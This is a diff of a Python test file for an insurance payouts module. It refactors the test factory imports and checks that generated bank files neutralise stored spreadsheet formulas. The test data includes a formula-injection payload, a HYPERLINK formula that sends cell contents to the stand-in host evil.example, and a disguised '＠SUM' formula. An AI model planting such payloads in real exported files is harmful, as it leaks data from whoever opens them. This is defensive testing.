@@ -20,8 +20,8 @@ from onego.cases.models import Case
 from onego.cases.tests.factories import PDF, PNG
 from onego.policies import payouts
 from onego.policies.models import Payment, Policy
-from onego.policies.tests import factories_staff
-from onego.policies.tests.factories_staff import to_payment
+from onego.policies.tests import factories
+from onego.policies.tests.factories import to_payment
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
@@ -86,19 +86,17 @@ def test_an_ordinary_account_name_still_goes_through(demo):
 
 
 @pytest.fixture
-def world(demo: Any) -> Iterator[dict[str, Any]]:
-    with time_machine.travel(
-        datetime.combine(factories_staff.ON, time(10, 0), tzinfo=factories_staff.CST), tick=True
-    ):
-        yield factories_staff.world()
+def world(demo: Any) -> Iterator[factories.StaffWorld]:
+    with time_machine.travel(datetime.combine(factories.ON, time(10, 0), tzinfo=factories.CST), tick=True):
+        yield factories.staff_world()
 
 
 def test_the_bank_file_neutralises_a_formula_stored_before_the_input_check(world):
     to_payment(world)
-    officer = world["officer"]
+    officer = world.officer
     # a payment written before the check existed (or by a path that bypassed it)
     Payment.objects.update(bank_account_name=HYPERLINK, bank_name="＠SUM(1)")
-    batch = payouts.create_batch(policy=world["policy"], period="2026", actor=officer)
+    batch = payouts.create_batch(policy=world.policy, period="2026", actor=officer)
     payouts.approve_batch(batch.pk, actor=officer)
 
     _, content = payouts.bank_file(batch.pk, actor=officer)
